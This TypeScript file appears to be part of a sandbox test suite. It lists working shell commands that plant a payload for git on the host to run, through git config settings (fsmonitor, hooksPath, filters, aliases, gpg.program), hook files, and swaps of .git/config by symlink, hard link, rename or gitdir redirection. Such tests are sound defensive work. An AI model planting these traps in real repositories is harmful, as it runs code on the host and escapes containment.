import type { Attack } from "../attack.ts";
import { ran } from "../place.ts";

const group = "workspace traps";
const writable = "protected files writable";

/** A setting of git's that runs a program, in the file that git obeys. */
const settings: readonly (readonly [string, string])[] = [
  ["core.fsmonitor", 'configure core.fsmonitor "$PAYLOAD"'],
  [
    "core.hooksPath",
    "mkdir -p hk && printf '#!/bin/sh\\n%s\\n' \"$PAYLOAD\" >hk/post-checkout && chmod +x hk/post-checkout && configure core.hooksPath hk",
  ],
  [
    "an included file",
    "printf '[core]\\n\\tfsmonitor = %s\\n' \"$PAYLOAD\" >inc && configure include.path ../inc",
  ],
  ["diff.external", 'configure diff.external "$PAYLOAD"; echo x >>file'],
  [
    "a smudge filter by info/attributes",
    "configure filter.evil.smudge \"$PAYLOAD; cat\" && mkdir -p .git/info && echo '* filter=evil' >.git/info/attributes && rm -f file",
  ],
  [
    "remote.origin.uploadpack",
    'configure remote.origin.url ../origin && configure remote.origin.fetch +refs/heads/*:refs/remotes/origin/* && configure remote.origin.uploadpack "$PAYLOAD;git-upload-pack"',
  ],
  ["an alias", 'configure alias.st "!$PAYLOAD"'],
  [
    "gpg.program",
    'configure commit.gpgSign true && printf \'#!/bin/sh\\n%s\\n\' "$PAYLOAD" >gpg && chmod +x gpg && configure gpg.program "$PWD/gpg"',
  ],
];

const hooks = ["pre-commit", "post-checkout", "reference-transaction", "post-index-change"];

const trap = (id: string, words: string, inside: string): Attack => ({
  id,
  group,
  words,
  inside,
  after: ran(id),
  weakening: writable,
});
const write = (path: string): string =>
  `mkdir -p "$(dirname ${path})" && printf '#!/bin/sh\\n%s\\n' "$PAYLOAD" >${path} && chmod +x ${path}`;
const evilConfig = (at: string): string =>
  `printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = %s\\n' "$PAYLOAD" >${at}`;

/** What git on the host would run or obey. */
export const gitTraps: Attack[] = [
  ...settings.map(([name, inside], index) =>
    trap(`WS-0${index + 1}`, `have git on the host run a program: ${name}`, inside),
  ),
  ...hooks.map((name, index) =>
    trap(`WS-${11 + index}`, `leave a git hook: ${name}`, write(`.git/hooks/${name}`)),
  ),
  trap(
    "WS-15",
    "the same at /workspace, past the protection of the other path",
    'cd /workspace && configure core.fsmonitor "$PAYLOAD" || { ' +
      write("/workspace/.git/hooks/post-checkout") +
      "; }",
  ),
  trap(
    "WS-16",
    "move .git away and make it anew",
    `mv .git .git2 && cp -r .git2 .git && ${evilConfig(".git/config")}`,
  ),
  trap("WS-17", "remove .git/config and write it anew", `rm -f .git/config && ${evilConfig(".git/config")}`),
  trap(
    "WS-18",
    "move a new configuration over the old one",
    `${evilConfig("/tmp/c.$ID")} && mv -f /tmp/c.$ID .git/config`,
  ),
  trap(
    "WS-19",
    "exchange the configuration with another file by one system call",
    `${evilConfig("c.$ID")} && python3 -c 'import ctypes, os, sys; sys.exit(0 if ctypes.CDLL(None).renameat2(-100, os.path.abspath("c." + os.environ["ID"]).encode(), -100, b".git/config", 2) == 0 else 1)'`,
  ),
  trap(
    "WS-20",
    "say by commondir that the configuration is elsewhere",
    `cp -r .git common && rm -f common/config.lock && ${evilConfig("common/config")} && echo ../common >.git/commondir`,
  ),
  trap(
    "WS-21",
    "use the configuration of a worktree",
    `configure extensions.worktreeConfig true && ${evilConfig(".git/config.worktree")}`,
  ),
  trap(
    "WS-22",
    "write through a link that leads to the configuration",
    "ln -s .git/config way && printf '[core]\\n\\tfsmonitor = %s\\n' \"$PAYLOAD\" >>way",
  ),
  trap(
    "WS-23",
    "write through a hard link to the configuration",
    "ln .git/config way2 && printf '[core]\\n\\tfsmonitor = %s\\n' \"$PAYLOAD\" >>way2",
  ),
  trap(
    "WS-24",
    "turn .git into a file that leads elsewhere",
    `cp -r .git elsewhere && rm -f elsewhere/config.lock && ${evilConfig("elsewhere/config")} && rm -rf .git && echo "gitdir: elsewhere" >.git`,
  ),
];
